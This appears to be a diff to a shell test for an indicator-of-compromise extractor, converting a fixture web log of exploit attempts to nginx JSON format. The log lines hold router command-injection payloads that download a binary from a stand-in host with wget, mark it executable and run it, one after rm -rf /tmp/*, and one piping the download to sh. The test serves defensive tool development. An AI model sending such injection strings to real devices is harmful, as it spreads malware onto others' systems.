@@ -331,16 +331,17 @@ sha256:3f79bb7b435b05321651daefd374cdc681dc06faa65e374e38337b88ca046dea \
 url:http://upd.evil-cdn.net/gate.php domain:upd.evil-cdn.net \
 cve:CVE-2017-11882 cve:CVE-2017-11883"
 
-# A web server's log of exploit attempts, as a hosting provider reports
-# a compromised or attacking host: the download URLs inside the encoded
-# requests, not the commands around them. The session 33 binary
+# A web server's log of exploit attempts (nginx's JSON access log), as a
+# hosting provider reports a compromised or attacking host: the
+# download URLs inside the encoded requests, not the commands around
+# them. The session 33 binary
 # (b7a93e6) gave http://198.51.100.66/arm7;chmod%20777%20arm7;./arm7),
 # http://198.51.100.67:8088/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&...
 # and nothing of the percent-encoded link.
 cat >"$TMP/exploits.log" <<'TXT'
-203.0.113.10 - - [24/Nov/2026:10:00:03 +0000] "GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(cd%20/tmp;%20wget%20http://198.51.100.66/arm7;chmod%20777%20arm7;./arm7) HTTP/1.1" 400 0 "http://192.0.2.80/cgi-bin/luci/" "Go-http-client/1.1"
-203.0.113.11 - - [24/Nov/2026:10:00:04 +0000] "GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://198.51.100.67:8088/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1 HTTP/1.0" 404 0 "http://192.0.2.80/setup.cgi" "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36"
-203.0.113.12 - - [24/Nov/2026:10:00:05 +0000] "POST /cgi-bin/x.cgi?cmd=wget%20http%3A%2F%2F198.51.100.68%2Fbins%2Fx86%20-O%20-%7Csh HTTP/1.1" 404 0 "http://192.0.2.80/cgi-bin/x.cgi" "python-requests/2.31.0"
+{"time":"2026-11-24T10:00:03+00:00","remote_addr":"203.0.113.10","request":"GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(cd%20/tmp;%20wget%20http://198.51.100.66/arm7;chmod%20777%20arm7;./arm7) HTTP/1.1","status":400,"body_bytes_sent":157,"http_referer":"http://192.0.2.80/cgi-bin/luci/","http_user_agent":"Go-http-client/1.1"}
+{"time":"2026-11-24T10:00:04+00:00","remote_addr":"203.0.113.11","request":"GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://198.51.100.67:8088/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1 HTTP/1.0","status":404,"body_bytes_sent":153,"http_referer":"http://192.0.2.80/setup.cgi","http_user_agent":"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36"}
+{"time":"2026-11-24T10:00:05+00:00","remote_addr":"203.0.113.12","request":"POST /cgi-bin/x.cgi?cmd=wget%20http%3A%2F%2F198.51.100.68%2Fbins%2Fx86%20-O%20-%7Csh HTTP/1.1","status":404,"body_bytes_sent":153,"http_referer":"http://192.0.2.80/cgi-bin/x.cgi","http_user_agent":"python-requests/2.31.0"}
 TXT
 is "exploit attempts in a web log: the attackers, the download URLs and their hosts, the referring pages" \
     "$(mg ioc extract "$TMP/exploits.log" | tr '\t' : | paste -sd' ' -)" \
